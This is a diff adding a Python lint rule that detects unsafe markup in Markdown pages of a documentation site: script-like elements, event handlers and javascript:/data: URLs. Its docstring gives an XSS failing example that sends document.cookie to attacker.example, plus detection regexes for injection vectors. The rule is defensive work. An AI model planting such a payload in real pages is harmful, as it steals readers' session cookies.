@@ -1,0 +1,103 @@
+"""A page contains markup that could run in a reader's browser.
+
+## What it checks
+
+Every Markdown page (ToRs, briefs, procedures and other pages) for:
+
+- `script`, `iframe`, `object`, `embed` or `form` elements;
+- event-handler attributes such as `onclick=` or `onerror=`;
+- `javascript:`, `vbscript:` or `data:` URLs in links and images, whether
+  written as Markdown (`[text](javascript:...)`, reference definitions,
+  autolinks) or as HTML (`href=`, `src=`).
+
+Text inside code blocks and code spans is shown, not run, and is not reported.
+A page with this finding is also left out of the site until it is fixed.
+
+## Why
+
+Markdown allows raw HTML, and the site is read on partners' networks by staff
+who trust it. A contributed file must not be able to run script in readers'
+browsers, submit their data elsewhere or frame another site.
+
+## Passing example
+
+```markdown
+See the [escalation procedure](../procedures/escalation.md).
+```
+
+## Failing example
+
+```markdown
+<img src="x.png" onerror="fetch('https://attacker.example/?c='+document.cookie)">
+[Click here](javascript:alert(1))
+```
+
+## Options
+
+None.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+
+from checks.findings import Problem, Severity
+from checks.markdown import code_lines
+from checks.rules.base import Context, Options
+
+CODE = "SEC001"
+NAME = "unsafe-markup"
+SEVERITY = Severity.ERROR
+
+_SCHEME = (
+    r"(?:j\s*a\s*v\s*a\s*s\s*c\s*r\s*i\s*p\s*t|v\s*b\s*s\s*c\s*r\s*i\s*p\s*t|d\s*a\s*t\s*a)\s*:"
+)
+PATTERNS: tuple[tuple[re.Pattern[str], str], ...] = (
+    (re.compile(r"<\s*/?\s*(script|iframe|object|embed|form)\b", re.I), "a <{0}> element"),
+    (re.compile(r"<[^>]*?\s(on[a-z]+)\s*=", re.I), "an event-handler attribute ({0}=)"),
+    (
+        re.compile(
+            r"(?:href|src|action|formaction|xlink:href|srcset|poster)\s*=\s*[\"']?\s*("
+            + _SCHEME
+            + ")",
+            re.I,
+        ),
+        "a {0} URL in HTML",
+    ),
+    (re.compile(r"\]\(\s*<?\s*(" + _SCHEME + ")", re.I), "a {0} URL in a Markdown link"),
+    (
+        re.compile(r"^\s{0,3}\[[^\]]+\]:\s*<?\s*(" + _SCHEME + ")", re.I),
+        "a {0} URL in a link reference",
+    ),
+    (re.compile(r"<\s*(" + _SCHEME + r")[^>]*>", re.I), "a {0} URL in an autolink"),
+)
+_CODE_SPAN = re.compile(r"(`+)(?:(?!\1).)+?\1")
+
+
+def findings_in(text: str, first_line: int) -> Iterator[tuple[int, str]]:
+    """(line, what) for each piece of unsafe markup in a page body."""
+    skip = code_lines(text)
+    for offset, line in enumerate(text.split("\n")):
+        if offset in skip:
+            continue
+        visible = _CODE_SPAN.sub("", line)
+        seen: set[str] = set()
+        for pattern, what in PATTERNS:
+            for match in pattern.finditer(visible):
+                message = what.format(re.sub(r"\s+", "", match.group(1)).lower())
+                if message not in seen:  # <script>...</script> is one finding
+                    seen.add(message)
+                    yield first_line + offset, message
+
+
+def check(ctx: Context, options: Options) -> Iterator[Problem]:
+    for path, doc in ctx.kb.documents.items():
+        for line, what in findings_in(doc.body, doc.body_line):
+            yield Problem(
+                path,
+                line,
+                f"the page contains {what}, which could run in readers' browsers; remove it "
+                "(the page is left out of the site until then)",
+                path,
+            )
